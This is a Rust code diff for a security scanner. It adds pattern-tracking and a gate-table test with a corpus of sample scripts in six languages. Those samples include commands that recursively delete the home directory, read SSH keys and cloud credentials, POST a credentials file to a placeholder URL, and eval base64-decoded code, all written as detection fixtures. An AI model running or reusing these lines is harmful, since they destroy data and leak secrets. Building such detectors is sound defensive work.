@@ -67,6 +67,11 @@ struct Patterns {
 fn re(s: &str) -> Pattern {
     // Compiled on first use, for a text that can match (`super::pattern`); the patterns are
     // constants checked by the tests below.
+    #[cfg(test)]
+    super::pattern::tests::SEEN
+        .lock()
+        .unwrap_or_else(|e| e.into_inner())
+        .insert(s.to_string());
     Pattern::new(s)
 }
 
@@ -1399,6 +1404,67 @@ mod tests {
                 }
             }
         }
+    }
+
+    /// Programs that reach every scanner pattern, for the gate table.
+    const GATE_CORPUS: &[(Language, &str)] = &[
+        (
+            Language::Python,
+            "import os, shutil, subprocess\nHOME = os.path.expanduser('~')\nP = os.path.join(HOME, '.ssh', 'id_rsa')\nshutil.rmtree(f\"{HOME}/x\")\nos.system('rm -rf ' + HOME)\nsubprocess.run(['curl', 'https://x'])\nopen(P).read()\nexec(compile('x', 'f', 'exec'))\nimport sys; subprocess.run([sys.executable, 'a.py'])\n",
+        ),
+        (
+            Language::Node,
+            "const os = require('os'); const path = require('path'); const cp = require('child_process');\nconst h = os.homedir();\nconst p = path.join(h, '.aws', 'credentials');\ncp.execSync(`rm -rf ${os.homedir()}/x`);\nrequire('fs').rmSync(path.resolve(h, 'x'), {recursive: true});\nfetch('https://x', {method: 'POST', body: require('fs').readFileSync(p)});\ncp.spawn(process.execPath, ['a.js']);\neval(Buffer.from('eA==', 'base64').toString());\n",
+        ),
+        (
+            Language::Ruby,
+            "require 'fileutils'\nh = Dir.home\nFileUtils.rm_rf(File.join(h, 'x'))\nsystem(\"rm -rf #{Dir.home}\")\n`curl https://x`\nFile.read(File.expand_path('~/.netrc'))\neval(Base64.decode64('eA=='))\n",
+        ),
+        (
+            Language::Perl,
+            "use File::Path qw(remove_tree);\nmy $h = $ENV{HOME};\nremove_tree(\"$h/x\");\nsystem(\"rm -rf $ENV{HOME}\");\nmy $x = `curl https://x`;\nopen(my $f, '<', \"$h/.ssh/id_rsa\");\neval $x;\n",
+        ),
+        (
+            Language::Php,
+            "<?php\n$h = getenv('HOME');\nshell_exec('rm -rf ' . $h);\nexec(\"curl https://x\");\nunlink($h . '/.env');\nfile_get_contents($_SERVER['HOME'] . '/.ssh/id_rsa');\neval(base64_decode('eA=='));\n",
+        ),
+        (
+            Language::Rust,
+            "use std::process::Command;\nfn main() {\n    let home = std::env::var(\"HOME\").unwrap();\n    let p = std::path::Path::new(&home).join(\".ssh\").join(\"id_rsa\");\n    std::fs::remove_dir_all(format!(\"{}/x\", home)).ok();\n    Command::new(\"sh\").arg(\"-c\").args([\"rm -rf ~\"]).status().ok();\n    let _ = std::fs::read(dirs::home_dir().unwrap().join(\".aws/credentials\"));\n    let _ = reqwest::blocking::get(\"https://x\");\n}\n",
+        ),
+    ];
+
+    #[test]
+    fn gate_table_is_current() {
+        use super::super::pattern::tests::{SEEN, gate_table};
+        for l in SCRIPT_LANGUAGES {
+            let p = patterns(l).unwrap();
+            p.home_interp.get_or_init(|| interp(&p.home));
+        }
+        for (l, text) in GATE_CORPUS {
+            scan(*l, text, &FakeEngine);
+        }
+        // Other tests in this process may have built more patterns: the table must hold every
+        // pattern seen, with the gate its syntax tree gives.
+        let mut all: std::collections::BTreeSet<String> =
+            SEEN.lock().unwrap_or_else(|e| e.into_inner()).clone();
+        all.extend(
+            super::super::gates::GATES
+                .iter()
+                .map(|(s, _)| s.to_string()),
+        );
+        let want = gate_table(&all);
+        if std::env::var_os("PALISADE_WRITE_GATES").is_some() {
+            std::fs::write(
+                concat!(env!("CARGO_MANIFEST_DIR"), "/src/scan/gates.rs"),
+                &want,
+            )
+            .unwrap();
+        }
+        assert!(
+            include_str!("gates.rs") == want,
+            "src/scan/gates.rs is stale: regenerate it with PALISADE_WRITE_GATES=1 cargo test --lib"
+        );
     }
 
     #[test]
